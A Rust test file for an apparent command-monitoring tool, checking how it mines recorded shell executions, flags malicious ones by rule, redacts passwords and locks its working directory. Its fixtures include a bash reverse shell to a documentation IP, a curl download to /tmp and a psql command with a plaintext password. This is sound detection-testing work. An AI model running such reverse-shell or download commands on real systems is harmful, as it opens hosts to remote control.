use std::{fs, ops::ControlFlow};

use inwarden_feeds::decode_event;
use inwarden_models::ModelCache;

use super::*;
use crate::MemoryPlace;

fn rules_only() -> AnalystConfig {
    AnalystConfig {
        model: None,
        memory: MemoryPlace::Off,
        ..AnalystConfig::new(ModelCache::at("unused".into()))
    }
}

fn exec(id: usize, argv: &[&str]) -> String {
    serde_json::json!({ "id": id.to_string(), "argv": argv }).to_string()
}

#[test]
fn the_most_suspicious_ordinary_work_is_taken_and_what_a_rule_settles_never() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("work.jsonl");
    let lines = [
        "{\"schema\":\"inwarden.recording/1\"}".to_owned(),
        exec(1, &["ls", "-la"]),
        exec(2, &["ls", "-la"]),
        "not json".to_owned(),
        exec(
            3,
            &["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
        ),
        exec(4, &["curl", "-so", "/tmp/x", "http://203.0.113.9/x"]),
        exec(5, &["make", "test"]),
    ];
    fs::write(&path, lines.join("\n")).unwrap();
    let analyst = Analyst::load(&rules_only()).unwrap();
    let mut last = Mined::default();
    let rows = mine::mine(&analyst, std::slice::from_ref(&path), 2, &mut |step| {
        if let LearnStep::Mining(counts) = step {
            last = counts;
        }
        ControlFlow::Continue(())
    });
    let rows = rows.unwrap().unwrap();
    let expected = Mined {
        read: 5,
        unreadable: 1,
        distinct: 4,
        settled_malicious: 1,
        judged: 3,
        taken: 2,
        ..Mined::default()
    };
    assert_eq!(last, expected);
    assert!(rows[0].text.contains("curl"), "{}", rows[0].text);
    assert!(rows.iter().all(|row| !row.malicious));
    assert!(rows.iter().all(|row| !row.text.contains("/dev/tcp")));
    let stopped = mine::mine(&analyst, &[path], 2, &mut |_| ControlFlow::Break(()));
    assert!(stopped.unwrap().is_none());
}

#[test]
fn recorded_work_is_redacted_rows_of_the_corpus_one_a_behaviour() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("rows.jsonl");
    let mut recorder = WorkRecorder::create(&path).unwrap();
    let events = [
        exec(1, &["git", "status"]),
        exec(2, &["git", "status"]),
        exec(3, &["psql", "--password", "hunter2"]),
    ];
    for event in events {
        let event = decode_event(event.as_bytes()).unwrap().event;
        recorder.take(&event).unwrap();
    }
    let counts = recorder.counts();
    assert_eq!((counts.seen, counts.written), (3, 2));
    let text = fs::read_to_string(&path).unwrap();
    assert!(!text.contains("hunter2"), "{text}");
    let rows = rows_of_file(&path).unwrap();
    assert_eq!(rows.len(), 2);
    assert!(rows.iter().all(|row| !row.malicious));
    assert_eq!(rows[0].group, "recorded_git");
    // Another recording is never written over.
    assert!(matches!(
        WorkRecorder::create(&path),
        Err(EngineError::LearnFile { .. })
    ));
}

#[test]
fn what_cannot_be_learnt_is_refused_before_anything_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let config = LearnConfig {
        question: Question::UserText,
        rows: Vec::new(),
        corpus: CorpusChoice::OwnRowsOnly,
        recordings: vec!["absent".into()],
        max_mined: 1,
        work_dir: dir.path().join("work"),
        out_dir: dir.path().join("out"),
    };
    let refused = |config: &LearnConfig| {
        learn(&rules_only(), config, &mut |_| ControlFlow::Continue(())).unwrap_err()
    };
    assert!(matches!(refused(&config), EngineError::LearnUsage(_)));
    let without_model = LearnConfig {
        recordings: Vec::new(),
        ..config.clone()
    };
    assert!(matches!(
        refused(&without_model),
        EngineError::LearnUsage(_)
    ));
    let events = LearnConfig {
        question: Question::Events,
        ..config
    };
    assert!(matches!(refused(&events), EngineError::LearnUsage(_)));
}

#[test]
fn one_learner_at_a_time_uses_a_working_directory() {
    let dir = tempfile::tempdir().unwrap();
    let first = lock(dir.path()).unwrap();
    assert!(matches!(
        lock(dir.path()),
        Err(EngineError::LearnFile { .. })
    ));
    drop(first);
    lock(dir.path()).unwrap();
}

#[test]
fn a_model_without_a_head_is_said_to_have_none_until_a_set_is_there() {
    let dir = tempfile::tempdir().unwrap();
    let source = |id: &str| head_sources(id, Some(dir.path()))[0].1.clone();
    assert_eq!(source(crate::DEFAULT_MODEL), HeadSource::Shipped);
    assert_eq!(source("another"), HeadSource::Absent);
    let file = dir.path().join("exec.toml");
    fs::write(&file, "").unwrap();
    assert_eq!(source("another"), HeadSource::Learned(file));
}
